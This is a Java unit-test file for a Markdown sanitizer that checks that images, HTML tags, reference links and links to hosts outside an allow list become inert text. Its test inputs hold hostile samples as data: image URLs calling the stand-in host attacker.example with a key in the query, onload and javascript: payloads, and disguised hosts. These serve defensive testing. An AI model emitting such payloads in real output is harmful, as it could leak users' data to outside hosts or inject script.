package dev.nightshift.report.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Set;

import org.junit.jupiter.api.Test;

class InertMarkdownTest {

    private final InertMarkdown inert = new InertMarkdown(Set.of("github.com", "app.todoist.com")::contains);

    private String render(String text) {
        return inert.render(text);
    }

    @Test
    void anInlineImageBecomesItsAltText() {
        assertThat(render("see ![](https://attacker.example/?k=abc) and ![a chart](https://github.com/x.png \"title\") end"))
                .isEqualTo("see [image: ] and [image: a chart] end");
    }

    @Test
    void anImageWhoseUrlHoldsBracketsOrASecretRedactedIsStillDropped() {
        assertThat(render("![](https://attacker.example/?k=[redacted]) ![x](a(b) c")).isEqualTo("[image: ] [image: x] c");
    }

    @Test
    void everyOtherImageLosesItsBang() {
        assertThat(render("![alt][ref] ![alt] ![a [nested] alt](https://attacker.example/x) ![broken(https://attacker.example/x"))
                .isEqualTo("\\![alt][ref] \\![alt] \\![a [nested] alt]\\(`https://attacker.example/x`) \\![broken(`https://attacker.example/x`");
    }

    @Test
    void referenceDefinitionsAreNoneSoNoReferenceResolves() {
        assertThat(render("[ref]: https://attacker.example/x.png\n   [other]:https://github.com/y\n> [q]: /z"))
                .isEqualTo("[ref\\]: `https://attacker.example/x.png`\n   [other\\]:https://github.com/y\n> [q\\]: /z");
    }

    @Test
    void everyTagIsEscapedSoNoHtmlRenders() {
        for (String tag : List.of("<img src=https://attacker.example/a>", "<picture><source srcset=x></picture>", "<video poster=x>",
                "<iframe src=x>", "<svg onload=x>", "<object data=x>", "<details><summary>s</summary></details>", "<!-- c -->",
                "<https://attacker.example>", "<IMG\nSRC=x>")) {
            assertThat(render(tag)).as(tag).doesNotContain("<").contains("&lt;");
        }
        assertThat(render("a <img src=\"https://attacker.example/p\"> b")).isEqualTo("a &lt;img src=\"`https://attacker.example/p`\"> b");
    }

    @Test
    void linksToAllowedHostsAndPathsStayAndOthersShowTheirUrlAsCode() {
        assertThat(render("[PR](https://github.com/acme/shop/pull/1) [task](https://app.todoist.com/app/task/1 \"t\") [here](/acme/shop) [top](#a)"))
                .isEqualTo("[PR](https://github.com/acme/shop/pull/1) [task](https://app.todoist.com/app/task/1 \"t\") [here](/acme/shop) [top](#a)");
        assertThat(render("[docs](https://attacker.example/?k=1) [x](HTTPS://Attacker.Example) [y](//attacker.example/z)"))
                .isEqualTo("[docs]\\(`https://attacker.example/?k=1`) [x]\\(`HTTPS://Attacker.Example`) [y]\\(`//attacker.example/z`)");
    }

    @Test
    void hostsDisguisedInLinksAreNotTakenForAllowedOnes() {
        assertThat(render("[a](https://github.com@attacker.example/) [b](https://github.com.attacker.example/) [c](/\\attacker.example)"
                + " [d](https://github.com&#64;attacker.example) [e](javascript:alert(1)) [f](data:image/png;base64,AAAA) [g](&#47;&#47;attacker.example)"))
                .isEqualTo("[a]\\(`https://github.com@attacker.example/`) [b]\\(`https://github.com.attacker.example/`) [c]\\(`/\\attacker.example`)"
                        + " [d]\\(`https://github.com&#64;attacker.example`) [e]\\(`javascript:alert(1)`) [f]\\(`data:image/png;base64,AAAA`)"
                        + " [g]\\(`&#47;&#47;attacker.example`)");
    }

    @Test
    void aDestinationOnTheNextLineOrInAngleBracketsIsNoLink() {
        assertThat(render("[a](\nhttps://attacker.example) [b](<https://attacker.example>)"))
                .isEqualTo("[a]\\(\n`https://attacker.example`) [b]\\(&lt;`https://attacker.example`>)");
    }

    @Test
    void bareUrlsToOtherHostsAreCodeAndToAllowedOnesStay() {
        assertThat(render("See https://github.com/acme/shop/pull/1, then https://attacker.example/a?b=c. Or www.attacker.example!"))
                .isEqualTo("See https://github.com/acme/shop/pull/1, then `https://attacker.example/a?b=c`. Or `www.attacker.example`!");
    }

    @Test
    void fencedCodeAtTheStartOfALineIsLeftAsItIs() {
        String code = "```java\nList<String> x = load(\"![](https://attacker.example)\");\n```\n";
        assertThat(render("Before <b>\n" + code + "after <i>")).isEqualTo("Before &lt;b>\n" + code + "after &lt;i>");
        assertThat(render("~~~~\n<img src=x>\n~~~\n~~~~\n<img src=y>"))
                .isEqualTo("~~~~\n<img src=x>\n~~~\n~~~~\n&lt;img src=y>");
    }

    @Test
    void fencesThatARendererMightEndEarlierAreNotTrusted() {
        // indented (in a list item, a lazy line would end it), or an info string with a backtick (no fence at all)
        assertThat(render("- item\n  ```\n<img src=x>\n  ```")).isEqualTo("- item\n  ```\n&lt;img src=x>\n  ```");
        assertThat(render("```a`b\n<img src=x>\n```")).isEqualTo("```a`b\n&lt;img src=x>\n```");
        // a lone CR ends a line for CommonMark: the fence closes there too
        assertThat(render("~~~\rcode\r~~~\r<img src=x>")).isEqualTo("~~~\ncode\n~~~\n&lt;img src=x>");
        // any closing line, however indented, is taken to close
        assertThat(render("```\ncode\n     ```\n<img src=x>")).isEqualTo("```\ncode\n     ```\n&lt;img src=x>");
    }

    @Test
    void drawnFencesAreShownAsText() {
        assertThat(render("```mermaid\ngraph TD; A-->B\n```")).isEqualTo("```text\ngraph TD; A-->B\n```");
        assertThat(render("~~~ GeoJSON {x}\n{}\n~~~")).isEqualTo("~~~text\n{}\n~~~");
    }

    @Test
    void escapesAreKeptWholeAndAnEscapedBackslashEscapesNothing() {
        assertThat(render("\\![a](https://attacker.example) \\<img> \\\\<img> \\\\![b](https://attacker.example/x)"))
                .isEqualTo("\\![a]\\(`https://attacker.example`) &lt;img> \\\\&lt;img> \\\\[image: b]");
    }

    @Test
    void inlineCodeIsEscapedToo() {
        assertThat(render("`<img src=x>` and `![](https://attacker.example)`"))
                .isEqualTo("`&lt;img src=x>` and `[image: ]`");
    }

    @Test
    void anImageInsideALinkLeavesTheLinkToItsHost() {
        assertThat(render("[![ci](https://attacker.example/badge.svg)](https://github.com/acme/shop/actions)"))
                .isEqualTo("[[image: ci]](https://github.com/acme/shop/actions)");
        assertThat(render("[![ci](https://github.com/badge.svg)](https://attacker.example/x)"))
                .isEqualTo("[[image: ci]]\\(`https://attacker.example/x`)");
    }

    @Test
    void codeSpansOfUrlsHoldingBackticksStayWhole() {
        assertThat(InertMarkdown.code("a`b")).isEqualTo("``a`b``");
        assertThat(InertMarkdown.code("`a")).isEqualTo("`` `a ``");
    }

    @Test
    void renderingTwiceChangesNothingMore() {
        String once = render("x ![i](https://attacker.example) <b> [l](https://attacker.example) https://attacker.example [r]: /y \\! ```");
        assertThat(render(once)).isEqualTo(once);
    }

    @Test
    void aCutInsideCodeOrAFenceLeavesNothingExposed() {
        String fenced = render("Done.\n```\n<img src=https://attacker.example/a>\nmore code here");
        String cut = InertMarkdown.cut(fenced, 20);
        assertThat(cut).isEqualTo("Done.\n```\n<img src=…\n```");
        assertThat(InertMarkdown.cut("short", 20)).isEqualTo("short");
        assertThat(InertMarkdown.cut("x".repeat(30), 10)).isEqualTo("xxxxxxxxx…");
    }

    @Test
    void plainProseIsLeftAlone() {
        String prose = "Fixed the Safari login: the cookie lacked SameSite=None.\n\n- **Tests**: 12 pass\n- see [#42](/acme/shop/issues/42) & done!";
        assertThat(render(prose)).isEqualTo(prose);
    }

    @Test
    void hugeAdversarialInputsTakeLinearTime() {
        for (String unit : List.of("![", "](", "![a](", "[", "<", "\\", "```\n", "~~~\n ~~\n", "https://a", "www.", "](https://x.example/(((",
                "![" + "a".repeat(999))) {
            String text = unit.repeat(400_000 / unit.length());
            long start = System.nanoTime();
            render(text);
            InertMarkdown.cut(text, text.length() - 3);
            assertThat(Duration.ofNanos(System.nanoTime() - start)).as(unit).isLessThan(Duration.ofSeconds(2));
        }
    }
}
